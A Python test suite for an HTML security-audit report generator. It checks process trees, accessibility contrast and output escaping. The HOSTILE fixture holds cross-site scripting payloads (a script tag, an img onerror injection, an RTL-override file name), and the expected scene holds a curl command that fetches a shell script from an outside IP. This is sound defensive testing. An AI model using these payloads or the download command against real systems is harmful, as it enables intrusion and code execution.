# SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
"""Tests of `osq report`: it tells what was recorded, and a browser shows it to everybody."""

import re
import stat
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from osq import cli
from osq.errors import UsageError
from osq.report import chart
from osq.report.facts import Row
from osq.report.window import Window, window_of
from tests.subscriber import chromium
from tests.subscriber.building import ROOT
from tests.subscriber.host import Host
from tests.subscriber.scene import Scene, record

STYLE = ROOT / "kernel" / "subscriber" / "osq" / "report" / "style.css"
HOSTILE = (
    "<script>document.title = 'owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "' onmouseover='x' </title></style>",
    "&lt;b&gt; \x1b[31m \u202egpj.exe",
    b"\xff\xfe",
)
# A process of the scene that has no program of its own, so it can have these.
PID = 813
NOW_S = 1_800_000_000


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Give a store of the scene, and of a program with hostile arguments."""
    folder = tmp_path_factory.mktemp("report")
    with Host(folder) as host:
        path = "/tmp/<b>&amp;\"'\u202e"
        yield record(host, folder, Scene().exec(PID, path, *HOSTILE))


@pytest.fixture(scope="module")
def page(store: Path) -> str:
    """Give the report on everything in the store."""
    file = store.with_name("report.html")
    code = cli.main(("report", "--store", str(store), "--since", "10m", str(file)))

    assert code == 0
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    return file.read_text()


class Elements(HTMLParser):
    """The elements of a page with their attributes, their texts, and who lies within whom."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.attributes: list[tuple[str, str, str | None]] = []
        self.names: set[str] = set()
        self.texts: list[tuple[int, str]] = []
        self._lists = 0
        self.feed(page)

    # The three methods that HTMLParser calls.
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: D102
        self.names.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        self._lists += tag == "ul"

    def handle_endtag(self, tag: str) -> None:  # noqa: D102
        self._lists -= tag == "ul"

    def handle_data(self, data: str) -> None:  # noqa: D102
        self.texts.append((self._lists, data))

    def depth_of(self, text: str) -> int:
        """Return how many lists a text lies in, where it lies in the fewest."""
        return min(depth for depth, one in self.texts if one == text)


def test_the_report_has_programs_below_who_started_them_and_all_other_sections(page: str) -> None:
    """The HTML of `osq report` has the process tree, connections, files and escalations."""
    elements = Elements(page)
    lines = ("-bash", "curl -so /tmp/a.sh http://203.0.113.9/a.sh", "[kworker/0:1]", "sudo -i")
    text = "".join(one for _, one in elements.texts)

    shell = elements.depth_of("sshd: /usr/sbin/sshd -D [listener]") + 2
    assert [elements.depth_of(line) for line in lines[1:]] == [shell + 1, shell + 2, shell + 1]
    assert "killed by signal 9" in text
    assert "exit code 1" in text
    assert {"198.51.100.7:3333", "[2001:db8::9]:80", "0.0.0.0:4444"} <= {
        one for _, one in elements.texts
    }
    assert "/etc/ssh/sshd_config" in text
    assert "a setuid program or file capabilities" in text
    assert "gained rights" in text


def test_hostile_values_are_text_and_nothing_of_the_page_leads_outside(page: str) -> None:
    """Markup in a stored value is escaped in the HTML report, and its links stay in the page."""
    elements = Elements(page)
    texts = {one for _, one in elements.texts}
    shown = " ".join(one for one in HOSTILE[:4] if isinstance(one, str))
    shown = shown.replace("\x1b", r"\x1b").replace("\u202e", r"\u202e") + r" \xff\xfe"

    assert shown in texts
    assert not elements.names & {"script", "img", "iframe", "link", "object", "form", "b&amp;"}
    assert not [one for one in elements.attributes if one[1].startswith("on") or one[1] == "src"]
    links = {value for _, name, value in elements.attributes if name == "href"}
    assert all(str(one).startswith("#") for one in links)
    assert "url(http" not in page
    assert "default-src 'none'" in page


def tokens(css: str) -> dict[str, str]:
    """Return the colours of a block of custom properties."""
    return dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6})", css))


def luminance(colour: str) -> float:
    """Return the relative luminance of a colour (WCAG 2.2)."""
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    linear = [v / 12.92 if v <= 0.04045 else ((v + 0.055) / 1.055) ** 2.4 for v in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    """Return the contrast of two colours (WCAG 2.2)."""
    dark, light = sorted((luminance(one), luminance(other)))
    return (light + 0.05) / (dark + 0.05)


def test_texts_and_graphics_of_both_colour_schemes_have_the_contrast_of_wcag_aa() -> None:
    """Colours of the report's style have 4.5 to 1 for texts, and 3 to 1 for the chart."""
    light, dark = STYLE.read_text().split("prefers-color-scheme: dark", 1)

    assert contrast("#777777", "#ffffff") < 4.5 < contrast("#767676", "#ffffff")
    for scheme in (tokens(light), tokens(dark)):
        for ink in ("text", "faint", "link", "good", "bad"):
            for ground in ("ground", "raised"):
                assert contrast(scheme[ink], scheme[ground]) >= 4.5, (ink, ground)
        assert contrast(scheme["bad"], scheme["bad-ground"]) >= 4.5
        assert contrast(scheme["text"], scheme["bad-ground"]) >= 4.5
        for field in ("stored", "missing", "away"):
            assert contrast(scheme[field], scheme["ground"]) >= 3, field


@chromium.needed
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1280, 500])
def test_in_a_browser_every_text_is_legible_and_every_frame_is_reached_by_keyboard(
    page: str,
    tmp_path: Path,
    dark: bool,  # noqa: FBT001 - the value of a parameter of the test
    width: int,
) -> None:
    """Chromium shows the report, light, dark, wide and narrow, and measures contrast and width."""
    found = chromium.audit(page, tmp_path, dark=dark, width=width)

    assert found["dark"] is dark
    assert found["texts"] > 100
    assert found["failures"] == []
    assert (found["stuck"], found["too_wide"]) == ([], False)
    assert found["without_name"] == 0


@chromium.needed
def test_the_browsers_audit_finds_a_faint_text_a_wide_page_and_a_region_without_name(
    page: str, tmp_path: Path
) -> None:
    """The measuring in Chromium reports such faults of a bad page, so that it can fail."""
    bad = '<section><p style="color: #999; width: 3000px">x</p></section>'

    found = chromium.audit(page.replace("<main", f"{bad}<main"), tmp_path, dark=False, width=1280)

    assert len(found["failures"]) == 1
    assert (found["too_wide"], found["without_name"]) == (True, 1)


@chromium.needed
def test_no_hostile_value_runs_in_a_browser(page: str, tmp_path: Path) -> None:
    """In Chromium's document of the report, no script or image comes from a stored value."""
    file = tmp_path / "report.html"
    file.write_text(page)

    document = chromium.dom(file)

    assert "<title>owned" not in document
    assert not Elements(document).names & {"script", "img"}


def an_interval(begin: int, end: int, **changed: int | str | None) -> Row:
    """Return a row of kosquery_stats, complete unless changed."""
    row: Row = {"begin_time": begin, "time": end, "stored": 10, "complete": 1, "ending": ""}
    row |= dict.fromkeys(("dropped", "reset", "unknown", "filtered", "unwatched"), 0)
    return row | {"note": "", "session": 1} | changed


def test_gaps_are_intervals_with_losses_and_times_without_any_interval() -> None:
    """The function gaps_of turns rows of kosquery_stats into gaps with count and reason."""
    window = Window(begin_s=100, end_s=195)
    rows = [
        an_interval(100, 110),
        an_interval(110, 120, complete=0, dropped=7, reset=1),
        an_interval(120, 150, complete=0, session=None),
        an_interval(150, 160),
        an_interval(160, 170, complete=0, ending="unclean", unwatched=2),
        an_interval(170, 190),
    ]

    gaps = chart.gaps_of(rows, window)

    assert [(gap.begin_s, gap.end_s, gap.missing) for gap in gaps] == [
        *((110, 120, 8), (120, 150, None), (160, 170, 0))
    ]
    assert gaps[0].why == "7 dropped, 1 reset"
    assert gaps[2].why == "2 paths are not watched as they were meant; the daemon ended: unclean"
    assert chart.verdict(rows, gaps).startswith("Not complete, 3 gaps: 8 events are known to be")
    assert chart.verdict(rows[:1], []) == (
        "Complete: all 10 events of these intervals are in the store."
    )
    assert chart.chart(rows, window).count('class="missing"') > 0
    assert chart.gaps_of([], window)[0].missing is None


def test_the_window_is_a_span_before_now_or_local_times_and_wrong_ones_are_refused() -> None:
    """The function window_of reads 2h, 30m or a local date; other texts raise UsageError."""
    local = time.strftime("%Y-%m-%d %H:%M", time.localtime(NOW_S - 7200))

    assert window_of("2h", None, NOW_S) == Window(begin_s=NOW_S - 7200, end_s=NOW_S)
    begin_s = window_of(local, "30m", NOW_S).begin_s
    assert begin_s == NOW_S - 7200 - (NOW_S - 7200) % 60
    for since, until in (("yesterday", None), ("2h", "later"), ("1h", "2h"), ("2w", None)):
        with pytest.raises(UsageError):
            window_of(since, until, NOW_S)


def test_report_exits_with_1_for_a_folder_that_is_missing_and_with_2_for_a_wrong_window(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`osq report` names the file or the option, and leaves no temporary file behind."""
    words = ("report", "--store", str(store))
    before = sorted(store.parent.iterdir())

    assert cli.main((*words, "/nowhere/report.html")) == 1
    assert "/nowhere/report.html: No such file" in capsys.readouterr().err
    assert cli.main((*words, "--since", "soon", "-")) == 2
    assert "a span such as 30m, 2h or 7d" in capsys.readouterr().err
    assert cli.main((*words, "-")) == 0
    assert capsys.readouterr().out.startswith("<!DOCTYPE html>")
    assert sorted(store.parent.iterdir()) == before
